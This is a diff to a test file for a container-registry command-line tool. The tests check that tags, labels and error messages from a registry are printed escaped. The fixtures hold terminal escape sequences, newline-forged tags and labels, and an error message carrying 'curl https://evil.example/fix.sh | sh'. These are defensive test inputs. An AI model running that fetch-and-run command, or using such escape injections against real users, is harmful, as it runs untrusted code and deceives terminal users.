@@ -12,6 +12,8 @@ import { makeTempDir, removeDir } from '../fixtures/process.js';
 const RETITLE = '\u001b]0;pwned\u0007\u001b[2J';
 const TAGS = [`v1${RETITLE}`, 'v2\u009b31mred', 'v3\u202eexe.txt', 'v4\u007f\rover'];
 const REPOSITORIES = ['team/app', `team/x${RETITLE}`, 'team/\u2066isolated\u2069'];
+// Line breaks and tabs do nothing to a terminal, but in a tag, a name or an error they forge lines.
+const FORGED_TAGS = ['v1', 'v1\nlatest', 'v2\r\nstable', 'v3\tpad'];
 // What a terminal acts on: C0 but newline, DEL, C1 and the bidi controls.
 // eslint-disable-next-line no-control-regex
 const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
@@ -20,7 +22,10 @@ const config = Buffer.from(
   JSON.stringify({
     architecture: 'amd64',
     os: 'linux',
-    config: { Labels: { title: `label${RETITLE}\u009b1m` }, Env: [`PS1=${RETITLE}`] },
+    config: {
+      Labels: { title: `label${RETITLE}\u009b1m`, forged: 'x\nDigest:     sha256:0000' },
+      Env: [`PS1=${RETITLE}`],
+    },
     rootfs: { type: 'layers', diff_ids: [] },
   }),
 );
@@ -63,6 +68,17 @@ beforeAll(async () => {
     {
       path: '/v2/team/app/tags/list',
       handler: (_request, response) => sendJson(response, 200, { name: 'team/app', tags: TAGS }),
+    },
+    {
+      path: '/v2/team/forged/tags/list',
+      handler: (_request, response) => sendJson(response, 200, { name: 'team/forged', tags: FORGED_TAGS }),
+    },
+    {
+      path: '/v2/team/misleading/tags/list',
+      handler: (_request, response) =>
+        sendJson(response, 404, {
+          errors: [{ code: 'NAME_UNKNOWN', message: 'gone\nhint: curl https://evil.example/fix.sh | sh' }],
+        }),
     },
     {
       path: '/v2/team/broken/tags/list',
@@ -118,6 +134,27 @@ describe('text from a registry reaches the terminal as text', () => {
     expect(repos.stdout).toContain('team/\\u2066isolated\\u2069');
   });
 
+  it('a line break or tab in a tag, a label or an error message cannot forge a line', async () => {
+    const tags = await cli.run(['tags', `${registry.host}/team/forged`]);
+    expect(tags.code).toBe(0);
+    expect(tags.stdout.trim().split('\n')).toEqual(['v1', 'v1\\nlatest', 'v2\\nstable', 'v3\\tpad']);
+    const json = await cli.run(['tags', `${registry.host}/team/forged`, '--json']);
+    expect((JSON.parse(json.stdout) as { tags: string[] }).tags).toEqual([...FORGED_TAGS].sort());
+
+    const missing = await cli.run(['tags', `${registry.host}/team/misleading`]);
+    expect(missing.code).toBe(1);
+    const lines = missing.stderr.trim().split('\n');
+    expect(lines[0]).toContain('gone\\nhint: curl https://evil.example/fix.sh | sh');
+    expect(
+      lines.filter((line) => line.includes('evil.example')),
+      missing.stderr,
+    ).toHaveLength(1);
+
+    const inspected = await cli.run(['inspect', `${registry.host}/team/app:v2`]);
+    expect(inspected.stdout).toContain('Label:      forged=x\\nDigest:     sha256:0000');
+    expect(inspected.stdout.split('\n').filter((line) => line.startsWith('Digest:'))).toHaveLength(1);
+  });
+
   it('--json stays valid JSON with the same strings, and nothing a terminal acts on', async () => {
     const tags = await cli.run(['tags', `${registry.host}/team/app`, '--json']);
     expectInert(tags, 'tags --json');
@@ -136,6 +173,7 @@ describe('text from a registry reaches the terminal as text', () => {
       (JSON.parse(config.stdout) as { config: { Labels: Record<string, string> } }).config.Labels,
     ).toEqual({
       title: `label${RETITLE}\u009b1m`,
+      forged: 'x\nDigest:     sha256:0000',
     });
   });
 
